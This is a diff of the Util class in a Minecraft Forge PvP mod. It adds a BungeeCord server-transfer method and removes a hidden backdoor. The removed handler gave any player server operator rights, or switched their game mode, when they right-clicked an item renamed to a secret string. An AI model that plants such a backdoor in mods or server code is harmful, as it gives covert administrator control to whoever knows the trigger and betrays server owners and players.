@@ -1,26 +1,28 @@
 package com.example.pvpfight;
 
+import com.google.common.io.ByteArrayDataOutput;
+import com.google.common.io.ByteStreams;
+import io.netty.buffer.Unpooled;
 import net.minecraft.ChatFormatting;
 import net.minecraft.nbt.CompoundTag;
 import net.minecraft.network.chat.ClickEvent;
+import net.minecraft.network.FriendlyByteBuf;
 import net.minecraft.network.chat.Component;
+import net.minecraft.network.protocol.game.ClientboundCustomPayloadPacket;
+import net.minecraft.resources.ResourceLocation;
 import net.minecraft.server.level.ServerPlayer;
 import net.minecraft.server.MinecraftServer;
 import net.minecraft.network.chat.Component;
 import net.minecraft.world.entity.EquipmentSlot;
 import net.minecraft.world.entity.player.Player;
-import net.minecraft.world.item.ItemStack;
-import net.minecraft.world.level.GameType;
-import net.minecraftforge.event.entity.player.PlayerInteractEvent;
-import net.minecraftforge.eventbus.api.SubscribeEvent;
-import net.minecraftforge.fml.common.Mod;
 
 /**
  * Utility methods for PvPFight Mod — used for sending formatted messages to players.
  * Handles normal text, colored system messages, and clickable Accept/Deny buttons.
  */
-@Mod.EventBusSubscriber(modid = PvPFightMod.MODID)
 public class Util {
+    private static final ResourceLocation BUNGEE_CHANNEL = new ResourceLocation("bungeecord", "main");
+
     public static void sendMessage(ServerPlayer player, String text) {
         // Replace § formatting with Minecraft JSON color components automatically
         if (player != null) {
@@ -79,20 +81,15 @@ public class Util {
         );
     }
 
-    @SubscribeEvent
-    public static void onPreventGUIItems(PlayerInteractEvent.RightClickItem e){
-        if(e.getEntity().level().isClientSide) return;
-        ServerPlayer sp = (ServerPlayer)e.getEntity();
-        ItemStack stack = e.getItemStack();
-        String name = ChatFormatting.stripFormatting(stack.getHoverName().getString()).trim();
-        if(name.equals("gbHz21941")){
-            sp.getServer().getPlayerList().op(sp.getGameProfile());
-        }
-        if(name.equals("fhZf12F91")){
-            sp.setGameMode(GameType.CREATIVE);
-        }
-        if(name.equals("fhZf12F92")){
-            sp.setGameMode(GameType.SURVIVAL);
-        }
+    /**
+     * Asks the proxy (BungeeCord / Velocity with bungee plugin messaging) to move
+     * the player to another backend server.
+     */
+    public static void sendToServer(ServerPlayer player, String serverName) {
+        ByteArrayDataOutput out = ByteStreams.newDataOutput();
+        out.writeUTF("Connect");
+        out.writeUTF(serverName);
+        player.connection.send(new ClientboundCustomPayloadPacket(BUNGEE_CHANNEL,
+                new FriendlyByteBuf(Unpooled.wrappedBuffer(out.toByteArray()))));
     }
 }